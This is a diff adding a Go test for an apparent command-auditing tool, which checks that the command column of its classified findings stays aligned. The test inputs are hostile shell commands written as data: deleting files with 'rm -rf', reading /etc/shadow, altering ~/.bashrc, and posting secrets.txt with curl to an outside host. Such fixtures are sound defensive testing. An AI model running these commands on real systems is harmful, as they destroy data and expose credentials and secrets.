@@ -112,3 +112,38 @@ not json
 	assert.Equal(t, "high", lines[3]["level"], "an existing level field is replaced")
 	assert.True(t, strings.HasPrefix(strings.Split(out, "\n")[3], `{"command":"rm -rf /","level":"high"`), "key order kept")
 }
+
+// TestClassifyFindingsAligned: in the text output the command column of
+// every finding starts at the same byte, whatever the widths of the rule
+// and line:col columns.
+func TestClassifyFindingsAligned(t *testing.T) {
+	for _, cmd := range []string{
+		"make; echo x > ~/.bashrc",
+		"ls; cat /etc/shadow; rm -rf ~",
+		"make\nmake\nmake\nmake\nmake\nmake\nmake\nmake\nmake\nmake && echo x > ~/.bashrc",
+		"pytest && curl -d @secrets.txt https://example.com/upload",
+	} {
+		t.Run(cmd, func(t *testing.T) {
+			code, out, stderr := runAuditq(t, "", "classify", "--", cmd)
+			require.Equal(t, 0, code, stderr)
+			_, findings, ok := strings.Cut(out, "findings:\n")
+			require.True(t, ok, out)
+			lines := strings.Split(strings.TrimRight(findings, "\n"), "\n")
+			require.GreaterOrEqual(t, len(lines), 2, out)
+			col := -1
+			for _, l := range lines {
+				f := strings.Fields(l)
+				require.GreaterOrEqual(t, len(f), 4, l)
+				// The command starts after level, rule and position.
+				i := strings.Index(l, f[2]) + len(f[2])
+				for i < len(l) && l[i] == ' ' {
+					i++
+				}
+				if col < 0 {
+					col = i
+				}
+				assert.Equal(t, col, i, "command column in %q\n%s", l, out)
+			}
+		})
+	}
+}
